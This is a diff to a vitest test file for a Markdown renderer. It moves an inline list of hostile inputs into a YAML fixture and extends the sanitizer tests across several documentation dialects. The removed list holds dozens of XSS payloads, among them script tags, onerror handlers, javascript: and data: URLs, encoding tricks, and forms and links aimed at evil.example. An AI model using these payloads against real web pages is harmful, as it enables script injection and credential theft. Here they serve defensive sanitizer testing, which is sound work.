@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import fc from 'fast-check';
 import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
 import { describe, expect, test } from 'vitest';
+import { parse } from 'yaml';
 import { readFacts } from '../../../src/content/index.ts';
 import { RenderLimitError, renderPage } from '../../../src/content/render/index.ts';
 
@@ -57,56 +58,21 @@ describe('addresses', () => {
   });
 });
 
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)"/onload=alert(2)>',
-  '<p onclick="alert(1)">x</p>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java&#10;script:alert(1))',
-  '[x](&#x6a;avascript:alert(1))',
-  '<a href="&#1;javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<javascript:alert(1)>',
-  '![x](javascript:alert(1))',
-  '![x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](data:text/html,<script>alert(1)</script>)',
-  '[x](vbscript:msgbox)',
-  '[r]: javascript:alert(1)\n\n[r]',
-  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<style>body{display:none}</style>',
-  '<p style="position:fixed;inset:0">x</p>',
-  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="x.swf"></object><embed src="x.swf">',
-  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
-  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<template><script>alert(1)</script></template>',
-  '<a id="docloom-main" name="docloom-main">x</a>',
-  '<p id="docloom-main">x</p><h1 id="docloom-x">docloom main</h1>',
-  '# docloom-main',
-  '<!-- <script>alert(1)</script> -->',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<video src=x onerror=alert(1)></video><audio controls src=x></audio>',
-  '<a href="https://evil.example" target="_blank" ping="https://evil.example">x</a>',
-  '<details ontoggle=alert(1) open>x</details>',
-  '| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |',
-  '[^x]\n\n[^x]: <script>alert(1)</script>',
-  '```html" onmouseover="alert(1)\nx\n```',
-  '# <img src=x onerror=alert(1)>',
-  '[<img src=x onerror=alert(1)>](x)',
-  '![`"><script>alert(1)</script>](x "\\"><script>alert(1)</script>")',
+const HOSTILE: readonly string[] = parse(readFileSync('fixtures/render/hostile.yaml', 'utf8'));
+const DIALECTS = [
+  '',
+  'gitbook',
+  'vitepress',
+  'docusaurus',
+  'docusaurus-md',
+  'starlight',
+  'starlight:mdx',
+  'mdbook',
+  'mkdocs',
 ];
 
 const ELEMENTS =
-  /^(a|b|blockquote|br|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|img|input|ins|kbd|li|ol|p|picture|pre|q|rp|rt|ruby|s|samp|section|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|ul|var)$/;
+  /^(a|abbr|b|blockquote|br|caption|code|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|img|input|ins|kbd|li|mark|ol|p|picture|pre|q|rp|rt|ruby|s|samp|section|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var)$/;
 
 /** What a rendered page must never hold, whatever it was made of. */
 function expectHarmless(rendered: string): void {
@@ -141,8 +107,11 @@ function expectHarmless(rendered: string): void {
 
 describe('hostile content', () => {
   test.each(HOSTILE)('%s', async (markdown) => {
-    expectHarmless(await renderPage(markdown, { reservedIds: 'docloom-' }));
-    expectHarmless(await renderPage(`- a\n\n  ${markdown}\n\n> ${markdown}`, { reservedIds: 'docloom-' }));
+    for (const dialect of DIALECTS) {
+      const options = { reservedIds: 'docloom-', dialect, highlight: true };
+      expectHarmless(await renderPage(markdown, options));
+      expectHarmless(await renderPage(`- a\n\n  ${markdown}\n\n> ${markdown}`, options));
+    }
   });
 
   test('any mixture of them', async () => {
@@ -163,14 +132,33 @@ describe('hostile content', () => {
         '-->',
         '</p>',
         '<table><td>',
+        '\n{% hint style="info" %}\n',
+        '{% endhint %}',
+        '\n{% tab title="a" %}\n',
+        '\n:::tip\n',
+        '\n:::\n',
+        '\n!!! note\n    ',
+        '\n    ',
+        '\n=== "a"\n    ',
+        '{',
+        '}',
+        '$',
+        '<Tabs>',
+        '</Tabs>',
       ),
       fc.string({ unit: 'binary', maxLength: 8 }),
     );
     await fc.assert(
-      fc.asyncProperty(fc.array(part, { maxLength: 12 }), async (parts) => {
-        expectHarmless(await renderPage(parts.join(''), { reservedIds: 'docloom-' }));
-      }),
-      { numRuns: 150 },
+      fc.asyncProperty(
+        fc.array(part, { maxLength: 12 }),
+        fc.constantFrom(...DIALECTS),
+        async (parts, dialect) => {
+          expectHarmless(
+            await renderPage(parts.join(''), { reservedIds: 'docloom-', dialect, highlight: true }),
+          );
+        },
+      ),
+      { numRuns: 300 },
     );
   });
 
